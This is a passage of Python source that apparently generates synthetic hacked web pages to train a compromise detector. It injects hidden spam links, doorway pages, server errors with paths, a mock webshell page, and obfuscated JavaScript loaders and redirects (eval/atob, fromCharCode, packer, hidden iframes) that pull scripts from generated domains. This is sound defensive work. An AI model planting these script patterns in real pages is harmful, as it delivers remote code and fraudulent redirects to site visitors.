"""The attack library: small functions that inject what real attackers inject into real pages.

Each attack takes an :class:`AttackCtx` (the base page's HTML, a seeded ``random.Random``,
the vocabulary pool to draw from, the page's site) and returns an :class:`Injected` page:
the new HTML, the attack family (the detector family it should trip), the finding kinds it
creates, and, for parasite pages and webshells, the new page address.

Every random choice that names a term, brand, domain, hiding method or insertion point
goes through :meth:`AttackCtx.pick`, which only offers the items of the context's pool
(``train`` or ``test``, split by hash in :mod:`attack_vocab`). Test positives therefore
carry spam and tricks the model has never seen.

The attacks are modelled on how injections are really done: appended to the template
footer, printed before the doctype by a broken plugin, hidden in the sidebar with inline
CSS or a class rule, dropped into comment sections, or whole planted pages.
"""

from __future__ import annotations

import base64
import bisect
import html as htmlmod
import random
import re
import string
from dataclasses import dataclass, field
from functools import lru_cache
from typing import Callable

from detector.training import attack_vocab as V


@dataclass
class Injected:
    html: str
    family: str
    kinds: tuple[str, ...]
    attack: str
    url: str | None = None
    detail: dict = field(default_factory=dict)


@lru_cache(maxsize=None)
def _pools(kind: str, items: tuple) -> dict:
    return V.split(kind, items)


@dataclass
class AttackCtx:
    html: str
    rng: random.Random
    pool: str  # "train" or "test"
    site: str = ""
    url: str | None = None
    lang: str = ""
    detail: dict = field(default_factory=dict)
    lists: dict = field(default_factory=dict)  # kind -> the full list a choice was drawn from

    def pick(self, kind: str, items) -> object:
        """One item of `items` from this context's pool (items split by hash, per kind)."""
        choices = _pools(kind, tuple(items))[self.pool]
        if not choices:
            choices = list(items)
        choice = self.rng.choice(choices)
        self.lists[kind] = tuple(items)
        self.detail.setdefault(kind, []).append(choice if isinstance(choice, str) else repr(choice))
        return choice

    # vocabulary helpers ------------------------------------------------------------
    def category(self, allowed=None) -> str:
        cats = list(allowed or V.CATEGORIES)
        return self.rng.choice(cats)

    def term(self, cat: str | None = None) -> str:
        cat = cat or self.category()
        items = V.SPAM_TERMS.get(cat, []) + V.SPAM_TERMS_RARE.get(cat, [])
        return str(self.pick(f"term.{cat}", items))

    def brand(self, cat: str = "replica") -> str:
        return str(self.pick(f"brand.{cat}", V.BRANDS.get(cat) or V.BRANDS["replica"]))

    def domain(self) -> str:
        return str(self.pick("domain", spam_domain_list()))

    def spam_url(self, term: str | None = None) -> str:
        d = self.domain()
        r = self.rng.random()
        scheme = "https" if r < 0.6 else "http"
        host = d if self.rng.random() < 0.6 else "www." + d
        if term and self.rng.random() < 0.7:
            slug = re.sub(r"[^a-z0-9]+", "-", term.lower()).strip("-") or "go"
            path = self.rng.choice([f"/{slug}", f"/{slug}.html", f"/?q={slug}", f"/product/{slug}-{self.rng.randint(10, 999)}"])
        else:
            path = self.rng.choice(["", "/", "/index.php", "/go", "/?ref=" + _token(self.rng, 6)])
        return f"{scheme}://{host}{path}"

    def anchor(self, cat: str | None = None) -> str:
        cat = cat or self.category()
        r = self.rng.random()
        if cat in ("replica",) and r < 0.4:
            return f"{self.brand('replica')} {self.rng.choice(['replica', 'outlet', 'sale', 'cheap', 'copy', 'watches', 'bags'])}"
        if cat == "pharma" and r < 0.3:
            return f"{self.rng.choice(['buy', 'cheap', 'generic', 'order'])} {self.brand('pharma')}"
        return self.term(cat)


@lru_cache(maxsize=1)
def spam_domain_list() -> tuple[str, ...]:
    return tuple(V.spam_domains())


def _token(rng: random.Random, n: int) -> str:
    return "".join(rng.choice(string.ascii_lowercase + string.digits) for _ in range(n))


def esc(s: str) -> str:
    return htmlmod.escape(s, quote=True)


# ------------------------------------------------------------------------- insertion
_BODY_OPEN = re.compile(r"<body\b[^>]*+>", re.I)
_CLOSE = {t: re.compile(rf"</{t}\s*+>", re.I) for t in ("body", "html", "footer", "aside", "header", "article", "main", "p", "head")}


# Where markup is not rendered: a "</p>" inside a script's string, a JSON-LD articleBody, a
# <template> or a comment is no place for an injection (nothing there reaches a reader or a
# crawler's text, so a record injected there would be a positive with no evidence).
_INERT = re.compile(r"<(script|style|template|textarea|title)\b[^>]*+>.*?</\1\s*+>|<!--.*?-->", re.I | re.S)


def _inert_spans(s: str) -> list[tuple[int, int]]:
    return [m.span() for m in _INERT.finditer(s)]


def _rendered(matches, s: str) -> list[re.Match]:
    """The matches that stand in rendered markup (outside scripts, templates and comments)."""
    spans = _inert_spans(s)
    if not spans:
        return list(matches)
    starts = [a for a, _ in spans]
    out = []
    for m in matches:
        i = bisect.bisect_right(starts, m.start()) - 1
        if i < 0 or m.start() >= spans[i][1]:
            out.append(m)
    return out


def _first(rx: re.Pattern, s: str) -> re.Match | None:
    ms = _rendered(rx.finditer(s), s)
    return ms[0] if ms else None


def _last(rx: re.Pattern, s: str) -> re.Match | None:
    ms = _rendered(rx.finditer(s), s)
    return ms[-1] if ms else None


def insert_at(html: str, fragment: str, point: str, rng: random.Random) -> str:
    """Put `fragment` at a named insertion point, falling back sensibly when absent."""
    if point == "before_doctype":
        return fragment + "\n" + html
    if point == "after_html_close":
        return html.rstrip() + "\n" + fragment + "\n"
    if point == "after_body_open":
        m = _first(_BODY_OPEN, html)
        return html[:m.end()] + fragment + html[m.end():] if m else fragment + html
    if point in ("in_footer", "in_header", "in_sidebar"):
        tag = {"in_footer": "footer", "in_header": "header", "in_sidebar": "aside"}[point]
        m = _last(_CLOSE[tag], html) if tag != "header" else _first(_CLOSE[tag], html)
        if m:
            return html[:m.start()] + fragment + html[m.start():]
        cls = {"footer": rng.choice(["footer", "site-footer", "footer-widgets", "bottom-links"]),
               "header": rng.choice(["header-top", "masthead-links"]),
               "aside": rng.choice(["sidebar", "widget widget_text", "sidebar-right"])}[tag]
        wrapped = f'<div class="{cls}">{fragment}</div>'
        return insert_at(html, wrapped, "before_body_close" if tag != "header" else "after_body_open", rng)
    if point in ("after_first_paragraph", "middle_paragraph", "end_of_main"):
        if point == "end_of_main":
            m = _last(_CLOSE["article"], html) or _last(_CLOSE["main"], html)
            if m:
                return html[:m.start()] + fragment + html[m.start():]
        ps = _rendered(_CLOSE["p"].finditer(html), html)
        if ps:
            m = ps[0] if point == "after_first_paragraph" else ps[len(ps) // 2]
            return html[:m.end()] + fragment + html[m.end():]
        return insert_at(html, fragment, "after_body_open", rng)
    # before_body_close (default)
    m = _last(_CLOSE["body"], html)
    if m:
        return html[:m.start()] + fragment + html[m.start():]
    m = _last(_CLOSE["html"], html)
    if m:
        return html[:m.start()] + fragment + html[m.start():]
    return html + fragment


def place(ctx: AttackCtx, fragment: str, points=None) -> str:
    point = str(ctx.pick("point", points or V.INSERTION_POINTS))
    if point == "before_doctype" and points is None:
        point = "before_body_close"  # markup before the doctype is for errors only
    return insert_at(ctx.html, fragment, point, ctx.rng)


def hide(ctx: AttackCtx, inner: str) -> str:
    """Wrap a fragment so readers cannot see it, with a hiding method from the pool."""
    method = str(ctx.pick("hiding", list(V.HIDING_STYLES)))
    attr = V.HIDING_STYLES[method]
    rng = ctx.rng
    tag = rng.choice(["div", "div", "span", "p", "section"])
    if attr == "@class":
        cls = rng.choice(["", "x", "seo", "wp-", "ad"]) + _token(rng, rng.randint(3, 7))
        rule = rng.choice(["display:none", "position:absolute;left:-8000px", "visibility:hidden;height:0",
                           "font-size:0", "overflow:hidden;height:0;width:0"])
        return f"<style>.{cls}{{{rule}}}</style><{tag} class=\"{cls}\">{inner}</{tag}>"
    if attr == "@js":
        el = _token(rng, 6)
        return (f'<{tag} id="{el}">{inner}</{tag}><script>document.getElementById("{el}").style.display="none";</script>')
    if attr == "@marquee":
        return f'<marquee style="position:absolute;width:0px;height:0px">{inner}</marquee>'
    return f"<{tag} {attr}>{inner}</{tag}>"


def link_html(ctx: AttackCtx, anchor: str, url: str) -> str:
    rng = ctx.rng
    extra = rng.choice(["", "", f' title="{esc(anchor)}"', ' rel="dofollow"', ' target="_blank"'])
    a = f'<a href="{esc(url)}"{extra}>{esc(anchor)}</a>'
    return rng.choice([a, a, f"<strong>{a}</strong>", f"<b>{a}</b>"])


def link_block(ctx: AttackCtx, n: int, cats=None) -> str:
    cat = ctx.category(cats)
    links = []
    for _ in range(n):
        c = cat if ctx.rng.random() < 0.8 else ctx.category(cats)
        anchor = ctx.anchor(c)
        links.append(link_html(ctx, anchor, ctx.spam_url(anchor)))
    style = ctx.rng.choice(["space", "list", "para", "comma", "br", "pipe"])
    if style == "list":
        return "<ul>" + "".join(f"<li>{l}</li>" for l in links) + "</ul>"
    if style == "para":
        return "".join(f"<p>{l}</p>" for l in links)
    if style == "br":
        return "<br>".join(links)
    if style == "pipe":
        return " | ".join(links)
    return (", " if style == "comma" else " ").join(links)


def spam_sentences(ctx: AttackCtx, cat: str, k: int) -> list[str]:
    out = []
    for _ in range(k):
        tpl = ctx.rng.choice(V.SPAM_FILLER)
        out.append(tpl.format(term=ctx.anchor(cat), term2=ctx.anchor(cat), term3=ctx.anchor(cat),
                              year=ctx.rng.randint(2018, 2026)))
    return out


# ------------------------------------------------------------------------- attacks
ATTACKS: dict[str, tuple[Callable[[AttackCtx], Injected], str]] = {}


def attack(family: str):
    def deco(fn):
        ATTACKS[fn.__name__] = (fn, family)
        return fn
    return deco


def _done(ctx: AttackCtx, html: str, family: str, kinds, name: str, url: str | None = None) -> Injected:
    return Injected(html, family, tuple(kinds), name, url, dict(ctx.detail))


@attack("hidden_content")
def hidden_link_block(ctx: AttackCtx) -> Injected:
    """A block of spam links hidden with CSS, in the footer, sidebar or after the content."""
    n = ctx.rng.choice([2, 3, 5, 8, 12, 20, 35])
    return _done(ctx, place(ctx, hide(ctx, link_block(ctx, n))), "hidden_content",
                 ("offtopic_link", "hidden_content"), "hidden_link_block")


@attack("hidden_content")
def hidden_single_link(ctx: AttackCtx) -> Injected:
    """One hidden spam link right after the content or the search form."""
    anchor = ctx.anchor()
    frag = hide(ctx, link_html(ctx, anchor, ctx.spam_url(anchor)))
    return _done(ctx, place(ctx, frag), "hidden_content", ("offtopic_link", "hidden_content"), "hidden_single_link")


@attack("hidden_content")
def hidden_spam_paragraph(ctx: AttackCtx) -> Injected:
    """Hidden keyword-stuffed text (few or no links), for the crawler only."""
    cat = ctx.category()
    body = " ".join(esc(s) for s in spam_sentences(ctx, cat, ctx.rng.randint(2, 6)))
    if ctx.rng.random() < 0.5:
        anchor = ctx.anchor(cat)
        body += " " + link_html(ctx, anchor, ctx.spam_url(anchor))
    return _done(ctx, place(ctx, hide(ctx, f"<p>{body}</p>")), "hidden_content",
                 ("hidden_content", "spam_text"), "hidden_spam_paragraph")


@attack("offtopic_link")
def visible_footer_links(ctx: AttackCtx) -> Injected:
    """A visible block of off-topic links in the footer or sidebar ("partners", "sponsors")."""
    n = ctx.rng.choice([3, 4, 6, 10, 15])
    title = ctx.rng.choice(["", "Partners", "Links", "Sponsors", "Friends", "Recommended", "Useful links", "Partner", "Liens"])
    head = f"<h4>{title}</h4>" if title else ""
    frag = f'<div class="{ctx.rng.choice(["links", "partners", "textwidget", "blogroll", "sponsor"])}">{head}{link_block(ctx, n)}</div>'
    html = insert_at(ctx.html, frag, str(ctx.pick("point.visible", ["in_footer", "in_sidebar", "before_body_close", "end_of_main"])), ctx.rng)
    return _done(ctx, html, "offtopic_link", ("offtopic_link",), "visible_footer_links")


@attack("offtopic_link")
def single_link_after_content(ctx: AttackCtx) -> Injected:
    """One visible spam link slipped in after a paragraph, often with a short sentence."""
    anchor = ctx.anchor()
    link = link_html(ctx, anchor, ctx.spam_url(anchor))
    lead = ctx.rng.choice(["", "See also: ", "Source: ", "Read more about ", "Visit ", "More: "])
    html = insert_at(ctx.html, f"<p>{lead}{link}</p>", str(ctx.pick("point.content", ["after_first_paragraph", "middle_paragraph", "end_of_main", "before_body_close"])), ctx.rng)
    return _done(ctx, html, "offtopic_link", ("offtopic_link",), "single_link_after_content")


@attack("offtopic_link")
def comment_spam(ctx: AttackCtx) -> Injected:
    """Blog comments posted by spam bots: generic praise plus spam links."""
    rng = ctx.rng
    cat = ctx.category()
    comments = []
    for _ in range(rng.randint(1, 5)):
        name_anchor = ctx.anchor(cat)
        author = link_html(ctx, name_anchor, ctx.spam_url(name_anchor)) if rng.random() < 0.6 else esc(rng.choice(["John", "Maria", "Mike", "Anna", "seo expert"]))
        praise = rng.choice(["Great post, thanks for sharing!", "Very informative article.", "I really like your blog.",
                             "Nice site, bookmarked.", "Thanks for the info.", "Excellent write-up!"])
        body = esc(praise)
        for _ in range(rng.randint(1, 4)):
            a = ctx.anchor(cat)
            body += " " + link_html(ctx, a, ctx.spam_url(a))
        comments.append(f'<li class="comment"><div class="comment-author">{author}</div><p>{body}</p></li>')
    frag = f'<div id="comments" class="comments-area"><ol class="comment-list">{"".join(comments)}</ol></div>'
    html = insert_at(ctx.html, frag, str(ctx.pick("point.comments", ["end_of_main", "before_body_close", "in_footer", "middle_paragraph"])), ctx.rng)
    return _done(ctx, html, "offtopic_link", ("offtopic_link", "spam_text"), "comment_spam")


@attack("spam_text")
def spam_paragraph(ctx: AttackCtx) -> Injected:
    """A visible keyword-stuffed paragraph (pharma, casino, loans, essays, replicas, crypto)."""
    cat = ctx.category()
    sents = spam_sentences(ctx, cat, ctx.rng.randint(2, 7))
    body = " ".join(esc(s) for s in sents)
    for _ in range(ctx.rng.choice([0, 1, 1, 2, 3])):
        a = ctx.anchor(cat)
        body += " " + link_html(ctx, a, ctx.spam_url(a))
    return _done(ctx, place(ctx, f"<p>{body}</p>"), "spam_text", ("spam_text", "offtopic_link"), "spam_paragraph")


@attack("spam_text")
def foreign_script_spam(ctx: AttackCtx) -> Injected:
    """Spam sentences in another language and script than the page (Chinese, Japanese, Russian...)."""
    langs = [l for l in V.FOREIGN_SPAM if l != ctx.lang] or list(V.FOREIGN_SPAM)
    lang = str(ctx.pick("spam_lang", langs))
    lines = [str(ctx.pick(f"foreign.{lang}", V.FOREIGN_SPAM[lang])) for _ in range(ctx.rng.randint(2, 6))]
    parts = []
    for line in lines:
        if ctx.rng.random() < 0.6:
            parts.append(link_html(ctx, line, ctx.spam_url()))
        else:
            parts.append(esc(line))
    sep = ctx.rng.choice([" ", "<br>", "</p><p>"])
    frag = f"<p>{sep.join(parts)}</p>"
    if ctx.rng.random() < 0.4:
        frag = hide(ctx, frag)
    return _done(ctx, place(ctx, frag), "spam_text", ("spam_text", "offtopic_link"), "foreign_script_spam")


@attack("spam_text")
def japanese_keyword_hack(ctx: AttackCtx) -> Injected:
    """Japanese brand-copy product listings with prices (the 'Japanese keyword hack')."""
    rng = ctx.rng
    items = []
    for _ in range(rng.randint(3, 12)):
        prod = str(ctx.pick("jp.product", V.JP_PRODUCTS))
        qual = str(ctx.pick("jp.qualifier", V.JP_QUALIFIERS))
        price = f"¥{rng.randint(3, 99)},{rng.randint(100, 999)}"
        name = f"{prod} {qual}"
        items.append(f'<li>{link_html(ctx, name, ctx.spam_url())} <span class="price">{price}</span></li>')
    frag = f'<ul class="{rng.choice(["items", "product-list", "goods"])}">{"".join(items)}</ul>'
    return _done(ctx, place(ctx, frag), "spam_text", ("spam_text", "offtopic_link"), "japanese_keyword_hack")


@attack("spam_text")
def ai_refusal_text(ctx: AttackCtx) -> Injected:
    """Auto-generated filler that kept the chatbot's refusal or preamble (content-farm injection)."""
    line = str(ctx.pick("ai", V.AI_REFUSALS))
    cat = ctx.category()
    body = esc(line) + " " + " ".join(esc(s) for s in spam_sentences(ctx, cat, ctx.rng.randint(1, 3)))
    return _done(ctx, place(ctx, f"<p>{body}</p>", ["after_first_paragraph", "middle_paragraph", "end_of_main", "after_body_open", "before_body_close"]),
                 "spam_text", ("spam_text",), "ai_refusal_text")


def _parasite_body(ctx: AttackCtx, cat: str) -> tuple[str, str]:
    rng = ctx.rng
    topic = ctx.anchor(cat)
    title = f"{topic.title()} - {rng.choice(['Best Price', 'Official Site', 'Review', str(rng.randint(2019, 2026)), 'Top 10'])}"
    paras = []
    for _ in range(rng.randint(3, 9)):
        s = " ".join(esc(x) for x in spam_sentences(ctx, cat, rng.randint(2, 4)))
        if rng.random() < 0.6:
            a = ctx.anchor(cat)
            s += " " + link_html(ctx, a, ctx.spam_url(a))
        paras.append(f"<p>{s}</p>")
    if rng.random() < 0.3:
        paras.append("<p>" + esc(str(ctx.pick("ai", V.AI_REFUSALS))) + "</p>")
    return title, f"<h1>{esc(title)}</h1>" + "".join(paras)


@attack("parasite_page")
def doorway_page(ctx: AttackCtx) -> Injected:
    """A planted spam page: on a hosting platform subdomain, or at a new path of the hacked site."""
    rng = ctx.rng
    cat = ctx.category()
    title, body = _parasite_body(ctx, cat)
    slug = re.sub(r"[^a-z0-9]+", "-", ctx.anchor(cat).lower()).strip("-")[:40] or "page"
    if rng.random() < 0.5 or not ctx.site:
        host = str(ctx.pick("platform", V.PLATFORM_HOSTS)).format(slug=slug.replace("-", "") + str(rng.randint(1, 99)))
        url = f"https://{host}/" + rng.choice(["", f"{slug}.html", f"{rng.randint(2019, 2026)}/{rng.randint(1, 12):02d}/{slug}.html"])
        html = (f"<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>{esc(title)}</title>"
                f"<link rel=\"canonical\" href=\"{esc(url)}\"></head><body><div class=\"post\">{body}</div></body></html>")
    else:
        path = str(ctx.pick("parasite_path", V.PARASITE_PATHS)).format(slug=slug, y=rng.randint(2015, 2025), n=rng.randint(10, 99999))
        url = f"https://{'www.' if rng.random() < 0.5 else ''}{ctx.site}{path}"
        # the hacked site's own template with the content swapped for spam
        html = re.sub(r"<title>.*?</title>", f"<title>{esc(title)}</title>", ctx.html, count=1, flags=re.I | re.S)
        m = _first(_BODY_OPEN, html)
        end = _last(_CLOSE["body"], html)
        if m and end and end.start() > m.end():
            html = html[:m.end()] + f'<div id="content">{body}</div>' + html[end.start():]
        else:
            html = f"<html><head><title>{esc(title)}</title></head><body>{body}</body></html>"
    return _done(ctx, html, "parasite_page", ("parasite_page", "spam_text"), "doorway_page", url=url)


def _php_error(ctx: AttackCtx, html_markup: bool) -> str:
    rng = ctx.rng
    level = str(ctx.pick("php_level", V.PHP_LEVELS))
    msg = str(ctx.pick(f"php_msg.{level}", V.PHP_MESSAGES[level]))
    path = _server_path(ctx)
    msg = msg.format(user=rng.choice(V.USERS), file=path, path=path, line=rng.randint(2, 4000),
                     var=rng.choice(V.VARS), const=rng.choice(V.CONSTS), cls=rng.choice(V.CLASSES), func=rng.choice(V.FUNCS))
    line = rng.randint(2, 4000)
    prefix = rng.choice(["", "", "PHP "]) if not html_markup else ""
    if html_markup:
        return f"<br />\n<b>{level}</b>:  {esc(msg)} in <b>{esc(path)}</b> on line <b>{line}</b><br />\n"
    return f"{prefix}{level}: {msg} in {path} on line {line}\n"


def _server_path(ctx: AttackCtx) -> str:
    rng = ctx.rng
    tpl = str(ctx.pick("path_tpl", V.PATH_TEMPLATES))
    app = rng.choice(V.PHP_APPS).format(plugin=rng.choice(V.PLUGINS), theme=rng.choice(V.THEMES))
    if "\\" in tpl:
        app = app.replace("/", "\\")
    return tpl.format(user=rng.choice(V.USERS), app=app, file=rng.choice(V.PHP_FILES), site=ctx.site or "example-site.de",
                      n=rng.randint(1, 999))


@attack("server_error")
def php_error(ctx: AttackCtx) -> Injected:
    """PHP warnings/notices/fatal errors with server paths: before the doctype, in the sidebar, in the body or a comment."""
    rng = ctx.rng
    k = rng.choice([1, 1, 2, 3, 6, 20])
    markup = rng.random() < 0.8
    errs = "".join(_php_error(ctx, markup) for _ in range(k))
    where = str(ctx.pick("php_where", ["before_doctype", "in_sidebar", "after_body_open", "middle_paragraph", "html_comment", "in_footer"]))
    if where == "html_comment":
        html = insert_at(ctx.html, f"<!-- {errs} -->", rng.choice(["after_body_open", "before_body_close"]), rng)
    else:
        html = insert_at(ctx.html, errs, where, rng)
    return _done(ctx, html, "server_error", ("server_error", "path_disclosure"), "php_error")


@attack("server_error")
def codeigniter_error(ctx: AttackCtx) -> Injected:
    """CodeIgniter's 'A PHP Error was encountered' blocks, printed before or inside the page."""
    rng = ctx.rng
    blocks = []
    for _ in range(rng.choice([1, 1, 2, 3])):
        level = rng.choice(["Warning", "Notice", "Deprecated", "Error"])
        msg = str(ctx.pick("php_msg.ci", [m for ms in V.PHP_MESSAGES.values() for m in ms if "session" not in m]))
        msg = msg.format(user=rng.choice(V.USERS), file="x", path=_server_path(ctx), line=rng.randint(2, 999),
                         var=rng.choice(V.VARS), const=rng.choice(V.CONSTS), cls=rng.choice(V.CLASSES), func=rng.choice(V.FUNCS))
        fname = rng.choice(["models/", "controllers/", "views/", "helpers/", "libraries/"]) + rng.choice(["Product_model.php", "Home.php", "header.php", "Cart.php", "Form_validation.php"])
        blocks.append('<div style="border:1px solid #990000;padding-left:20px;margin:0 0 10px 0;">'
                      f"<h4>A PHP Error was encountered</h4><p>Severity: {level}</p><p>Message:  {esc(msg)}</p>"
                      f"<p>Filename: {fname}</p><p>Line Number: {rng.randint(2, 999)}</p></div>")
    where = str(ctx.pick("ci_where", ["before_doctype", "after_body_open", "middle_paragraph", "in_sidebar"]))
    return _done(ctx, insert_at(ctx.html, "".join(blocks), where, rng), "server_error",
                 ("server_error", "path_disclosure"), "codeigniter_error")


@attack("server_error")
def sql_error(ctx: AttackCtx) -> Injected:
    """Database errors printed into the page (MySQL, PostgreSQL, Oracle, MSSQL, WordPress)."""
    rng = ctx.rng
    msg = str(ctx.pick("sql", V.SQL_ERRORS)).format(q=rng.choice(["' AND 1=1", "ORDER BY id DESC", "\\'", "LIMIT 0,10"]),
                                                    db=rng.choice(["wp123", "db_site", "shop"]), var=rng.choice(V.VARS))
    tag = rng.choice(["div", "p", "b", "font color=\"red\""])
    frag = f"<{tag}>{esc(msg)}</{tag.split()[0]}>"
    where = str(ctx.pick("sql_where", ["before_doctype", "after_body_open", "middle_paragraph", "in_sidebar", "end_of_main"]))
    return _done(ctx, insert_at(ctx.html, frag, where, rng), "server_error", ("server_error",), "sql_error")


@attack("server_error")
def stack_trace(ctx: AttackCtx) -> Injected:
    """An uncaught exception's stack trace (Java, Python, .NET, Node, Rails, Django, Laravel, Tomcat)."""
    rng = ctx.rng
    kind = str(ctx.pick("trace", list(V.STACK_TRACES)))
    text = V.STACK_TRACES[kind].format(var=rng.choice(V.VARS), app=rng.choice(["shop", "portal", "cms", "site", "webapp"]),
                                       cls=rng.choice(["OrderController", "HomePage", "ArticleView"]), line=rng.randint(10, 900))
    body = esc(text).replace("\n", "<br>\n") if rng.random() < 0.5 else esc(text)
    wrap = rng.choice(["div", "p", "span"])
    frag = f"<{wrap} class=\"{rng.choice(['error', 'exception', 'msg', ''])}\">{body}</{wrap}>"
    where = str(ctx.pick("trace_where", ["before_doctype", "after_body_open", "middle_paragraph", "end_of_main", "in_sidebar"]))
    return _done(ctx, insert_at(ctx.html, frag, where, rng), "server_error", ("server_error", "path_disclosure"), "stack_trace")


@attack("template_debris")
def unrendered_template(ctx: AttackCtx) -> Injected:
    """Template tags the engine failed to render ({{ }}, {% %}, <%= %>, ${...})."""
    rng = ctx.rng
    tags = [str(ctx.pick("tpl", V.TEMPLATE_TAGS)) for _ in range(rng.randint(1, 6))]
    parts = []
    for t in tags:
        tag = rng.choice(["span", "p", "h2", "div", "li", "a"])
        parts.append(f'<a href="#">{esc(t)}</a>' if tag == "a" else f"<{tag}>{esc(t)}</{tag}>")
    frag = rng.choice([" ", "\n"]).join(parts)
    where = str(ctx.pick("tpl_where", ["after_body_open", "after_first_paragraph", "middle_paragraph", "in_header", "in_footer", "in_sidebar"]))
    return _done(ctx, insert_at(ctx.html, frag, where, rng), "template_debris", ("template_debris",), "unrendered_template")


@attack("template_debris")
def spintax(ctx: AttackCtx) -> Injected:
    """Unspun article-spinner syntax {a|b|c} left in generated text."""
    rng = ctx.rng
    words = []
    for _ in range(rng.randint(4, 12)):
        group = ctx.pick("spin", [tuple(g) for g in V.SPINTAX_WORDS])
        words.append("{" + "|".join(group) + "}")
        if rng.random() < 0.5:
            words.append(rng.choice(["this", "is a", "for", "and", "the", "of your", "on"]))
    return _done(ctx, place(ctx, f"<p>{esc(' '.join(words))}</p>", ["after_first_paragraph", "middle_paragraph", "end_of_main", "in_footer"]),
                 "template_debris", ("template_debris", "spam_text"), "spintax")


@attack("template_debris")
def shortcodes(ctx: AttackCtx) -> Injected:
    """WordPress page-builder shortcodes printed as text after a plugin was disabled."""
    rng = ctx.rng
    codes = [str(ctx.pick("shortcode", V.SHORTCODES)).format(n=rng.randint(10, 9999)) for _ in range(rng.randint(2, 6))]
    return _done(ctx, place(ctx, f"<p>{esc(''.join(codes))}</p>", ["after_first_paragraph", "middle_paragraph", "end_of_main", "after_body_open"]),
                 "template_debris", ("template_debris",), "shortcodes")


def _script(ctx: AttackCtx, style: str) -> str:
    rng = ctx.rng
    target = ctx.spam_url()
    v = "_" + _token(rng, rng.randint(3, 6))
    if style == "eval_atob":
        payload = base64.b64encode(f'var s=document.createElement("script");s.src="{target}/j.js";document.head.appendChild(s);'.encode()).decode()
        return f'<script>eval(atob("{payload}"));</script>'
    if style == "fromcharcode":
        codes = ",".join(str(ord(c)) for c in f'window.location="{target}"')
        return f"<script>var {v}=String.fromCharCode({codes});eval({v});</script>"
    if style == "unescape_write":
        enc = "".join(f"%{ord(c):02X}" for c in f'<script src="{target}/a.js"></script>')
        return f"<script>document.write(unescape('{enc}'));</script>"
    if style == "hex_array":
        enc = "".join(f"\\x{ord(c):02x}" for c in target)
        return (f"<script>var {v}=['{enc}','\\x73\\x72\\x63','\\x73\\x63\\x72\\x69\\x70\\x74'];"
                f"(function(){{var e=document.createElement({v}[2]);e[{v}[1]]={v}[0];document.body.appendChild(e);}})();</script>")
    if style == "packer":
        words = "|".join(["var", "document", "createElement", "script", "src", target.split("//")[1].split("/")[0], "appendChild", "head"])
        return (f"<script>eval(function(p,a,c,k,e,d){{e=function(c){{return c.toString(36)}};if(!''.replace(/^/,String)){{while(c--){{d[c.toString(a)]=k[c]||c.toString(a)}}k=[function(e){{return d[e]}}];e=function(){{return'\\\\w+'}};c=1}};while(c--){{if(k[c]){{p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}}}return p}}"
                f"('0 a=1.2(\\'3\\');a.4=\\'//5/j.js\\';1.7.6(a);',36,8,'{words}'.split('|'),0,{{}}))</script>")
    if style == "referrer_redirect":
        return (f'<script>if(document.referrer.match(/google|bing|yahoo|yandex|baidu/i)){{window.location.href="{target}";}}</script>')
    if style == "settimeout_redirect":
        return f'<script>setTimeout(function(){{top.location.replace("{target}")}},{rng.choice([0, 100, 1500, 3000])});</script>'
    if style == "external_src":
        return f'<script type="text/javascript" src="{target.rstrip("/")}/{rng.choice(["jquery.min.js", "js/analytics.js", "cdn/lib.js", "stat.js"])}?v={rng.randint(1, 99)}"></script>'
    if style == "createelement_src":
        return (f'<script>(function(d,s){{var x=d.createElement(s);x.async=1;x.src="{target}/t.js?"+Math.random();'
                f'd.getElementsByTagName("head")[0].appendChild(x)}})(document,"script");</script>')
    if style == "document_write_iframe":
        return f'<script>document.write(\'<iframe src="{target}" width="0" height="0" frameborder="0"></iframe>\');</script>'
    if style == "meta_refresh":
        return f'<meta http-equiv="refresh" content="{rng.choice([0, 1, 3])};url={esc(target)}">'
    # cookie_gated_redirect
    return (f'<script>if(document.cookie.indexOf("{v}")==-1){{document.cookie="{v}=1;path=/;max-age=86400";'
            f'if(/Android|iPhone/i.test(navigator.userAgent)){{location.href="{target}"}}}}</script>')


@attack("script_injection")
def injected_script(ctx: AttackCtx) -> Injected:
    """Obfuscated or foreign scripts and redirects slipped into the head, body or footer."""
    style = str(ctx.pick("script_style", V.SCRIPT_STYLES))
    frag = _script(ctx, style)
    points = ["after_body_open", "before_body_close", "after_html_close", "in_footer", "head"]
    point = str(ctx.pick("script_point", points))
    if point == "head" or style == "meta_refresh":
        m = _first(_CLOSE["head"], ctx.html)
        html = ctx.html[:m.start()] + frag + ctx.html[m.start():] if m else frag + ctx.html
    else:
        html = insert_at(ctx.html, frag, point, ctx.rng)
    return _done(ctx, html, "script_injection", ("script_injection",), "injected_script")


@attack("script_injection")
def hidden_iframe(ctx: AttackCtx) -> Injected:
    """A tiny or hidden iframe loading a foreign page (drive-by or click fraud)."""
    rng = ctx.rng
    src = ctx.spam_url()
    style = str(ctx.pick("iframe_style", ['width="1" height="1" frameborder="0"', 'width="0" height="0" style="display:none"',
                                          'style="visibility:hidden;position:absolute;left:-1000px" width="200" height="100"',
                                          'width="1" height="1" style="border:0;opacity:0"', 'height="0" width="0" style="position:absolute;top:-999px"']))
    frag = f'<iframe src="{esc(src)}" {style}></iframe>'
    point = str(ctx.pick("iframe_point", ["after_body_open", "before_body_close", "after_html_close", "in_footer"]))
    return _done(ctx, insert_at(ctx.html, frag, point, rng), "script_injection", ("script_injection", "hidden_content"), "hidden_iframe")


@attack("backdoor")
def webshell_page(ctx: AttackCtx) -> Injected:
    """A web shell's page served from the hacked site (file manager, uname banner, upload form)."""
    rng = ctx.rng
    style = str(ctx.pick("shell", V.SHELL_STYLES))
    name = str(ctx.pick("shell_name", V.SHELL_NAMES))
    cwd = _server_path(ctx).rsplit("/", 1)[0] if "/" in _server_path(ctx) else "/var/www/html"
    uname = f"Linux {rng.choice(['srv', 'web', 'host', 'vps'])}{rng.randint(1, 999)} {rng.choice(['3.10.0-1160', '4.15.0-213', '5.4.0-150'])}-generic #1 SMP x86_64"
    perms = ["drwxr-xr-x", "-rw-r--r--", "-rwxrwxrwx", "drwxrwxrwx"]
    files = "".join(f"<tr><td><a href=\"?d={esc(cwd)}&f={f}\">{f}</a></td><td>{rng.randint(1, 99)}.{rng.randint(0, 9)} KB</td><td>{rng.choice(perms)}</td></tr>"
                    for f in rng.sample(["index.php", "wp-config.php", ".htaccess", "wp-admin", "wp-content", "uploads", "config.php", "robots.txt"], 5))
    parts = {
